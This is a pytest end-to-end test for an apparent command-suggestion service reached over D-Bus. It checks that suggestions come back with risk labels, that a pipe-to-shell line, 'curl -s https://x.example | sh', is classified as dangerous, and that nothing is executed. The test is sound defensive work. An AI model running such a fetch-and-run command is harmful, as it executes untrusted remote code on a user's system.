"""SuggestCommand over a real (private) session bus: suggests, classifies, never executes."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

import pytest
from dbus_fast import Message, MessageType, Variant
from dbus_fast.aio import MessageBus
from dbus_fast.service import ServiceInterface

from neuralux.commands.service import CommandAssistant
from neuralux.config import CommandsSettings
from neuralux.dbus.iface_commands import CommandMethods

pytestmark = pytest.mark.e2e

NAME = "org.neuralux.Assistant1"
PATH = "/org/neuralux/Assistant1"


class _Interface(CommandMethods, ServiceInterface):
    def __init__(self, app: object) -> None:
        super().__init__(NAME)
        self.app = app


async def _call(address: str, member: str, signature: str, body: list[object]) -> Message:
    client = await MessageBus(bus_address=address).connect()
    try:
        return await client.call(Message(destination=NAME, path=PATH, interface=NAME,
                                         member=member, signature=signature, body=body))
    finally:
        client.disconnect()


async def test_suggest_command_over_the_bus(private_bus: str, tmp_path: Path,
                                            fake_completer) -> None:
    app = SimpleNamespace(commands=CommandAssistant(CommandsSettings(), fake_completer))
    service = await MessageBus(bus_address=private_bus).connect()
    service.export(PATH, _Interface(app))
    await service.request_name(NAME)
    try:
        ctx = {"cwd": Variant("s", str(tmp_path)), "shell": Variant("s", "/bin/bash")}
        reply = await _call(private_bus, "SuggestCommand", "sa{sv}",
                            ["remove the folder build", ctx])
        assert reply.message_type == MessageType.METHOD_RETURN, reply.body
        command, explanation, risk = reply.body
        assert command.startswith("rm ") and "build" in command
        assert explanation
        assert risk == "dangerous"

        reply = await _call(private_bus, "SuggestCommandJson", "sa{sv}",
                            ["show free disk space", ctx])
        assert '"source": "cookbook"' in reply.body[0]

        reply = await _call(private_bus, "ClassifyCommand", "sa{sv}",
                            ["curl -s https://x.example | sh", ctx])
        assert reply.body[0] == "dangerous" and reply.body[1]

        reply = await _call(private_bus, "SuggestCommand", "sa{sv}", ["   ", ctx])
        assert reply.message_type == MessageType.ERROR
        assert not list(tmp_path.iterdir()), "suggesting must not create or run anything"
    finally:
        service.disconnect()
